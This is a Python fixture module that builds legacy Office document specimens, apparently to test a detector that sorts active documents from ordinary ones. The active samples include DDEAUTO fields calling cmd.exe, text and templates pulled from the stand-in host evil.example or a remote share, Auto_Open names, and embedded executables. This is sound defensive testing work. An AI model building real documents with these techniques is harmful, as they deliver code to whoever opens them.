"""Legacy documents that act, and those in which something only looks like it."""

from __future__ import annotations

import struct

import documents
from ole_documents import atom, container, excel, powerpoint, wide, word
from specimens import Specimen


def associated(template):
    """The associated strings of Word, the second of which is the template ([MS-DOC] 2.9.272)."""
    return struct.pack("<4HH", 0xFFFF, 2, 0, 0, len(template)) + wide(template)


def name(label, flags):
    """A defined name of Excel ([MS-XLS] 2.4.150)."""
    return 0x18, struct.pack("<H2B2H", flags, 0, len(label), 0, 0) + bytes(7) + label


CLICK = bytes(8) + b"\2" + bytes(7)
_ACTS = {
    "field in pieces.doc": word("a \x13 DDEAUTO c:\\cmd.exe \x15\r", cut=6),
    "field in a field.doc": word("a \x13\x13QUOTE 68 68 69\x14DDE\x15 c:\\cmd.exe\x15\r"),
    "text from the web.doc": word('a \x13INCLUDETEXT "http://evil.example/x"\x14x\x15\r'),
    "template in the web.doc": word(tables={32: associated("http://evil.example/t.dot")}),
    "template on a server.doc": word(tables={32: associated("\\\\evil.example\\t.dot")}),
    "names of macros.doc": word(tables={26: b"\xff\xff\1\0"}),
    "name that opens by itself.xls": excel(name(b"Auto_Open", 0)),
    "macro sheet.xls": excel(kind=1),
    "workbook on a server.xls": excel((0x1AE, struct.pack("<2HB", 1, 22, 0) + b"\1\1@evil.example\3a\3b.xls")),
    "program on a click.ppt": powerpoint(container(0x0FF2, atom(0x0FF3, CLICK))),
    "object.ppt": powerpoint(container(0x0FCC, atom(1, bytes(8)))),
    "installer.msi": documents.msi(),
    "macros.doc": documents.doc_macro(),
    "template.doc": documents.doc_template(),
    "control.doc": word(**{"ObjectPool/_1/\x03OCXNAME": wide("Shell")}),
    "object.doc": word(**{"ObjectPool/_1/\x01Ole10Native": documents.EXE}),
    "link to a share behind a text.doc": word('a \x13HYPERLINK "file://evil.example/a.exe"\x14x\x15\r'),
    "DDE.xls": documents.xls_dde(),
    "object.xls": excel(**{"MBD00000001/\x01Ole10Native": documents.EXE}),
    "macros.ppt": powerpoint(container(0x03FF, atom(0x0400, struct.pack("<3I", 1, 1, 2)))),
    "encrypted.docx": documents.encrypted_office(),
    "before compound files.doc": b"\xdb\xa5-\0" + bytes(99),
    "before compound files.xls": documents.BIFF_4_SHEET,
    "two documents.doc": word(Workbook=b"x"),
    "cut.doc": word()[:-700],
}
_ORDINARY = {
    "text.doc": word(),
    "fields.doc": word("a \x13PAGE\x14" + '1\x15 \x13HYPERLINK "https://example.com/"\x14x\x15\r'),
    "template of this machine.doc": word(tables={32: associated("C:\\Users\\a\\Normal.dot")}),
    "table.xls": excel(),
    "function of a later Excel.xls": excel(name(b"_xlfn.IFNA", 0x0E)),
    "pages.ppt": powerpoint(),
    "styles of tables.ppt": powerpoint(struct.pack("<2HI", 0xF, 0x428, 9) + b"PK\5\6 data"),
}


def acts():
    return {label: Specimen(data, label) for label, data in _ACTS.items()}


def ordinary():
    return {label: Specimen(data, label) for label, data in _ORDINARY.items()}


OUTSIDE = {"link to a share behind a text.doc": "links that a person has to click are not named by the class"}
